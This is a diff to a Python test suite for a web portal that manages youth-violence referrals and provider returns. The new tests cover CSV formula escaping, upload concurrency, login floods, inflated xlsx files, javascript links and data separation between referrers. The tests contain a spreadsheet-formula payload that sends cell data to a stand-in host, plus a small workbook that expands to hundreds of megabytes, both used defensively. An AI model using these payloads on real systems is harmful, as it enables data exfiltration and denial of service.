@@ -31,7 +31,7 @@ from vrukit.errors import ConfigError, InputFileError
 from vrukit.programme.db import engine, session
 from vrukit.programme.models import Intervention, ReturnSubmission, User
 from vrukit.referrals.crypto import Keyring, write_key
-from vrukit.referrals.models import Pathway
+from vrukit.referrals.models import Pathway, Referral
 from vrukit.referrals.workflow import create_referral
 from vrukit.settings import get_settings
 from vrukit.web.guard import Guard
@@ -147,7 +147,7 @@ def test_an_upload_does_not_hold_up_other_requests(url):
     every other request waited for it)."""
     rows = "".join(f"P{k},15,school,yes,4,no\n" for k in range(30_000))
     app = create_app(url, secret_key=SECRET, guard=Guard(return_max_rows=1_000_000))
-    with serve(app) as root, httpx.Client(base_url=root, follow_redirects=False) as up:
+    with serve(app) as root, httpx.Client(base_url=root, follow_redirects=False, timeout=300) as up:
         m = re.search(r'name="csrf_token" value="([^"]+)"', up.get("/login").text)
         assert m
         up.post("/login", data={"email": BOXING[0], "password": BOXING[1],
@@ -161,7 +161,9 @@ def test_an_upload_does_not_hold_up_other_requests(url):
                         data={"csrf_token": token, "period": "2022-Q2"}, files=big)  # fmt: skip
             done["upload"] = time.monotonic()
             done["status"] = r.status_code
+            done["took"] = done["upload"] - started
 
+        started = time.monotonic()
         t = threading.Thread(target=upload)
         t.start()
         time.sleep(0.3)  # the upload is being read and checked
@@ -204,6 +206,8 @@ def test_a_javascript_link_is_refused_by_the_form_and_the_import_and_never_shown
     app = portal_with_mounts(url, get_settings(), secret=SECRET, migrate=False)
     page = TestClient(app).get("/youth-map/services/svc-2")
     assert page.status_code == 200 and "javascript:" not in page.text
+    api = TestClient(app).get("/api/services/svc-2")
+    assert api.status_code == 200 and "url" not in api.json() and "javascript" not in api.text
 
 
 def test_every_response_carries_security_headers_and_a_fresh_csp_nonce(url):
@@ -321,7 +325,7 @@ def test_csv_exports_neutralise_spreadsheet_formulas(demo_region, tmp_path):
     shutil.copy(demo_region.folder / "programme.sqlite", tmp_path / "p.sqlite")
     url = f"sqlite:///{tmp_path / 'p.sqlite'}"
     keyring = Keyring.from_file(demo_region.folder / "referral.key")
-    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    formula = 'x;=HYPERLINK("https://evil.example/?"&A1,"open")'
     with session(url) as s:
         pathway = s.scalars(select(Pathway)).first()
         custody = s.scalars(select(User).where(User.email == "custody@demo.vru")).one()
@@ -335,7 +339,11 @@ def test_csv_exports_neutralise_spreadsheet_formulas(demo_region, tmp_path):
     _sign_in(c, ANALYST)
     body = c.get("/referrals/export.csv").text
     roles = [row["referrer_role"] for row in csv.DictReader(io.StringIO(body))]
-    assert "'" + formula in roles and formula not in roles
+    assert formula.replace(";=", ";'=") in roles
+    # text is quoted, so a spreadsheet that splits on ';' finds no formula after one
+    cells = [v for row in csv.reader(io.StringIO(body), delimiter=";") for v in row]
+    assert any("HYPERLINK" in v for v in cells)
+    assert not any(v.lstrip('"').startswith(("=", "+", "@")) for v in cells)
 
 
 def test_numeric_overflow_in_a_return_is_a_422_naming_the_cell(url):
@@ -453,3 +461,167 @@ def test_the_referral_key_is_rotated_in_one_step_and_the_old_key_then_refused(
     with pytest.raises(ConfigError, match="not the key this store"):
         create_app(url, secret_key=SECRET, referral_key=old)
     create_app(url, secret_key=SECRET, referral_key=new)
+
+
+def test_a_sign_in_flood_queues_and_never_fails(url):
+    """45 wrong passwords at once, with no account (the probe: 39 HTTP 500s and every page
+    stalled for 30 s): each is answered 401 or 429, and a page asked for meanwhile answers."""
+    app = create_app(url, secret_key=SECRET)
+    with serve(app) as root:
+        clients = []
+        for _ in range(45):
+            c = httpx.Client(base_url=root, follow_redirects=False, timeout=120)
+            first = re.search(r'csrf_token" value="([^"]+)', c.get("/login").text).group(1)
+            clients.append((c, first))
+        gate = threading.Barrier(46)
+        codes: list[int] = []
+
+        def one(k: int) -> None:
+            c, token = clients[k]
+            gate.wait()
+            r = c.post("/login", data={"email": f"x{k}@demo.vru", "password": "wrong-password",
+                                       "csrf_token": token})  # fmt: skip
+            codes.append(r.status_code)
+
+        threads = [threading.Thread(target=one, args=(k,)) for k in range(45)]
+        for t in threads:
+            t.start()
+        gate.wait()
+        with httpx.Client(base_url=root, timeout=120) as other:
+            page = other.get("/login")
+        for t in threads:
+            t.join(300)
+        for c, _ in clients:
+            c.close()
+    assert page.status_code == 200
+    assert len(codes) == 45 and set(codes) <= {401, 429}, sorted(codes)
+
+
+def test_an_xlsx_whose_shared_strings_fill_many_cells_is_refused_unread(url):
+    """A 12 KB workbook whose one 1 MB shared string fills 300 cells holds 300 MB of text: its
+    zip sizes pass, its cells do not (the probe took the server to 5.7 GB)."""
+    c = _client(url, guard=Guard(xlsx_max_inflated_bytes=50 * 1024 * 1024))
+    token = _sign_in(c, BOXING)
+    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    cells = "".join(f'<row r="{k}"><c r="A{k}" t="s"><v>0</v></c></row>' for k in range(1, 301))
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("xl/sharedStrings.xml", f"<sst {ns}><si><t>{'x' * 2**20}</t></si></sst>")
+        z.writestr("xl/worksheets/sheet1.xml", f"<worksheet {ns}><sheetData>{cells}"
+                                               "</sheetData></worksheet>")  # fmt: skip
+    assert len(buf.getvalue()) < 20_000
+    r = c.post(f"/interventions/{_own_intervention(url)}/returns",
+               data={"csrf_token": token, "period": "2022-Q1"},
+               files={"file": ("strings.xlsx", buf.getvalue(), "application/zip")})  # fmt: skip
+    assert r.status_code == 422 and "300 MB of cell text" in r.text, r.text[-600:]
+
+
+def test_a_training_upload_does_not_hold_up_other_requests(url):
+    rows = "".join(f"P{k},School,2022-01-{k % 28 + 1:02d},20,I feel safe,2,{k % 5 + 1}\n"
+                   for k in range(60_000))  # fmt: skip
+    with Session(engine(url)) as s:
+        iid = s.scalars(
+            select(Intervention.id).where(Intervention.thematic_area == "trauma_informed")
+        ).first()
+        provider = s.scalars(select(Intervention).where(Intervention.id == iid)).one().provider_id
+        email = s.scalars(select(User.email).where(User.organisation_id == provider)).first()
+    app = create_app(url, secret_key=SECRET, guard=Guard(return_max_rows=1_000_000))
+    with serve(app) as root, httpx.Client(base_url=root, follow_redirects=False, timeout=300) as up:
+        who = (email or ADMIN[0], "demo-provider-password" if email else ADMIN[1])
+        first = re.search(r'csrf_token" value="([^"]+)', up.get("/login").text).group(1)
+        up.post("/login", data={"email": who[0], "password": who[1], "csrf_token": first})
+        token = re.search(r'csrf_token" value="([^"]+)', up.get("/").text).group(1)
+        done: dict[str, float] = {}
+
+        def upload() -> None:
+            head = "participant_ref,organisation,trained_on,reached_per_week,statement,pre,post\n"
+            body = (head + rows).encode()
+            r = up.post(f"/interventions/{iid}/training", data={"csrf_token": token},
+                        files={"file": ("t.csv", body, "text/csv")}, timeout=300)  # fmt: skip
+            done["at"], done["status"] = time.monotonic(), r.status_code
+
+        t = threading.Thread(target=upload)
+        t.start()
+        time.sleep(0.3)
+        answered = []
+        with httpx.Client(base_url=root) as other:
+            for _ in range(5):
+                assert other.get("/login").status_code == 200
+                answered.append(time.monotonic())
+        t.join(300)
+    assert done["status"] in (200, 422), done
+    assert max(answered) < done["at"], "other requests waited for the training upload"
+
+
+def test_odd_numbers_and_file_names_give_422_or_are_tidied_never_500(url):
+    c = _client(url)
+    token = _sign_in(c, ADMIN)
+    for value in ("²", "9" * 5000, "-1"):
+        r = c.post("/admin/users", data={"email": "n@x.org", "password": "x" * 12,
+                                         "role": "provider", "organisation_id": value,
+                                         "csrf_token": token})  # fmt: skip
+        assert r.status_code == 422, (value[:5], r.status_code)
+        form = {"name": "B", "status": "active", "minimum_age": value, "csrf_token": token}
+        r = c.post("/directory/services/svc-1", data=form)
+        assert r.status_code == 422, (value[:5], r.status_code)
+    p = _client(url)
+    token = _sign_in(p, BOXING)
+    long_name = "r" * 300 + "\x00" + ".csv"
+    r = _upload(p, token, _own_intervention(url), long_name, GOOD.encode())
+    assert r.status_code == 303, r.text[-300:]
+    with Session(engine(url)) as s:
+        newest = select(ReturnSubmission.file_name).order_by(ReturnSubmission.id.desc())
+        stored = s.scalars(newest).first()
+    assert stored and len(stored) <= 120 and "\x00" not in stored and stored.endswith(".csv")
+
+
+def _refer_as(s, keyring, email: str, pathway, phone: str, note: str, at: datetime):
+    from vrukit.referrals.workflow import create_referral
+
+    u = s.scalars(select(User).where(User.email == email)).one()
+    person = {"given_name": "Mia", "family_name": "Merge", "date_of_birth": "2009-02-02",
+              "phone": phone, "contact_notes": note}  # fmt: skip
+    return create_referral(s, keyring, pathway=pathway, identity=person,
+                           referring_org_id=u.organisation_id, referrer_role="worker", age=13,
+                           sex="female", consent_given=True, at=at, by=u)  # fmt: skip
+
+
+def test_a_duplicate_across_organisations_keeps_each_referrers_details(demo_region, tmp_path):
+    """Custody and A&E each refer the same young person to one provider, who decides it is the
+    same person (the probe: custody's referral then showed A&E's phone and note). Each referrer
+    still reads only what it gave, and the possible-duplicate notice is the receiver's alone."""
+    from vrukit.referrals.workflow import decide_duplicate
+
+    shutil.copy(demo_region.folder / "programme.sqlite", tmp_path / "p.sqlite")
+    url = f"sqlite:///{tmp_path / 'p.sqlite'}"
+    keyring = Keyring.from_file(demo_region.folder / "referral.key")
+    at = datetime(2022, 5, 16, 12)
+    with session(url) as s:
+        custody = s.scalars(select(User).where(User.email == "custody@demo.vru")).one()
+        ae = s.scalars(select(User).where(User.email == "ae@demo.vru")).one()
+        pathway = s.scalars(select(Pathway).where(Pathway.provider_id.not_in(
+            [custody.organisation_id, ae.organisation_id]))).first()  # fmt: skip
+        first = _refer_as(s, keyring, "custody@demo.vru", pathway, "07700 900001",
+                          "custody's note", at)  # fmt: skip
+        second = _refer_as(s, keyring, "ae@demo.vru", pathway, "07700 900002", "ae's note",
+                           at.replace(hour=13))  # fmt: skip
+        assert second.duplicate_of_id == first.id and second.duplicate_status == "pending"
+        receiver = s.scalars(
+            select(User).where(User.organisation_id == pathway.provider_id)
+        ).first()
+        ids = first.id, second.id
+        receiver_email = receiver.email if receiver else None
+    app = create_app(url, secret_key=SECRET, referral_key=keyring, now=lambda: at.replace(hour=14))
+    ae_client = TestClient(app, client=("203.0.113.20", 1))
+    _sign_in(ae_client, ("ae@demo.vru", "demo-provider-password"))
+    assert "Possible duplicate" not in ae_client.get(f"/referrals/{ids[1]}").text
+    with session(url) as s:
+        decide_duplicate(s, s.scalars(select(User).where(User.email == receiver_email)).first(),
+                         s.get(Referral, ids[1]), True, at.replace(hour=15))  # fmt: skip
+    c = TestClient(app, client=("203.0.113.21", 2))
+    _sign_in(c, ("custody@demo.vru", "demo-referrer-password"))
+    shown = c.get(f"/referrals/{ids[0]}/identity").text
+    assert "07700 900001" in shown and "custody&#39;s note" in shown
+    assert "07700 900002" not in shown and "ae&#39;s note" not in shown
+    shown = ae_client.get(f"/referrals/{ids[1]}/identity").text
+    assert "07700 900002" in shown and "07700 900001" not in shown
